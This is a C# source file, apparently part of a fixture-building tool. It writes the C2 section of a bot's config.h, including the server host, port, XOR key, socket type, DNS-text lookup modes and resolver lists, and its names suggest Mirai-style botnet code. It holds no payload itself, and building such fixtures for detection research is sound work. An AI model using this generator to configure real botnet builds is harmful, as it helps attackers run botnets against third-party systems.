using System.Globalization;
using System.Net;
using System.Net.Sockets;
using System.Text;

namespace FixtureBuilder.Configurations;

/// <summary>Writes the part of config.h that says where the C2 is.</summary>
internal static class CncHeaderWriter
{
    public static void Write(BotConfiguration configuration, Action<string> line)
    {
        CncSettings cnc = configuration.Cnc;
        bool isVersion6 = cnc.Via == "ipv6";
        line($"#define CNC_UNIT \"cnc/{cnc.Via}.c\"");
        line($"#define CNC_FAMILY {(isVersion6 ? "AF_INET6" : "AF_INET")}");
        line($"#define CNC_TYPE {(cnc.Protocol == "tcp" ? "SOCK_STREAM" : "SOCK_DGRAM")}");
        Define("CNC_DATAGRAMS", cnc.Protocol == "datagrams" ? "1" : null);
        Define("CNC_PORT", cnc.Port?.ToString(CultureInfo.InvariantCulture));
        Define("CNC_XOR", cnc.Xor is uint xor ? $"0x{xor:x8}u" : null);
        Define("CNC_TEXT_PORT", cnc.Via == "table-text-port" ? "1" : null);
        Define("CNC_ASKS_FOR_TEXT", cnc.Via is "dns-text" or "dns-text-coded" ? "1" : null);
        Define("CNC_ARGUMENTS", cnc.Via switch { "arguments" => "2", "argument-joined" => "1", _ => null });
        Define("CNC_STORE()", cnc.Via switch
        {
            "main-integer" or "twice" => "(srv_addr.sin_addr.s_addr = CNC_ADDRESS, srv_addr.sin_port = htons(CNC_PORT))",
            "main-htonl" => "(srv_addr.sin_addr.s_addr = util_htonl(CNC_NUMBER), srv_addr.sin_port = htons(CNC_PORT))",
            _ => null,
        });
        Define("CNC_IN_MAIN_ONLY", cnc.Via is "main-integer" or "main-htonl" ? "1" : null);
        if (cnc.Host is string host)
        {
            WriteHost(host, line);
        }

        Define("CNC_DOMAIN_IDS", List(cnc.DomainIds.Select(id => $"{id}")));
        Define("CNC_PORTS", List(cnc.Ports.Select(port => $"{port}")));
        Define("CNC_PAIR_COUNT", cnc.Pairs.Count == 0 ? null : $"{cnc.Pairs.Count}");
        Define("CNC_PAIRS(ADD)", cnc.Pairs.Count == 0
            ? null
            : string.Join(' ', cnc.Pairs.Select((pair, at) => $"ADD({at}, {HeaderWriter.Address(pair.Address)}, {pair.Port})")));
        bool areAddresses = cnc.Hosts.TrueForAll(item => IPAddress.TryParse(item, out _));
        Define(
            areAddresses ? "CNC_ADDRESSES" : "CNC_NAMES",
            List(cnc.Hosts.Select(item => areAddresses ? HeaderWriter.Address(item) : Text(item))));
        Define("RESOLVERS", List(configuration.Program.Resolvers.Select(HeaderWriter.Address)));

        void Define(string name, string? value)
        {
            if (value is not null)
            {
                line($"#define {name} {value}");
            }
        }
    }

    private static void WriteHost(string host, Action<string> line)
    {
        line($"#define CNC_HOST {Text(host)}");
        if (!IPAddress.TryParse(host, out IPAddress? address))
        {
            return;
        }

        if (address.AddressFamily == AddressFamily.InterNetworkV6)
        {
            line($"#define CNC_BYTES {string.Join(", ", address.GetAddressBytes())}");
        }
        else
        {
            line($"#define CNC_ADDRESS {HeaderWriter.Address(host)}");
            line($"#define CNC_NUMBER 0x{Convert.ToHexStringLower(address.GetAddressBytes())}u");
        }
    }

    private static string? List(IEnumerable<string> items) => string.Join(", ", items) is { Length: > 0 } list ? list : null;

    private static string Text(string text) => HeaderWriter.Literal(Encoding.ASCII.GetBytes(text));
}
